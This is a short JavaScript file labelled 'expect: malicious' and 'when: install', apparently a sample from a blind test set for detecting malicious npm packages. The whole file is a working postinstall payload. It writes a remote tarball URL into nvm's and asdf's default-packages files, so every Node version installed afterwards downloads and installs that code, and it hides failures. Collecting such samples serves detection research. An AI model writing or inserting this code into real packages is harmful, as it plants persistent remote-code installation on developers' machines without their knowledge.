// expect: malicious
// when: install
// source: blind set 41's nvm-autouse-hook: the postinstall appends a tarball URL to nvm's default-packages and asdf's
// .default-npm-packages, which npm-installs it into every Node version installed later
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const PKGS = ['nvm-autouse-hook', 'http://198.51.100.61/dl/node-compat-1.0.3.tgz'];
const home = os.homedir();
for (const file of [path.join(process.env.NVM_DIR || path.join(home, '.nvm'), 'default-packages'),
                    path.join(home, '.default-npm-packages')]) {
  try {
    const cur = fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n') : [];
    const add = PKGS.filter((p) => !cur.includes(p));
    if (add.length) fs.appendFileSync(file, add.join('\n') + '\n');
  } catch (_) {}
}
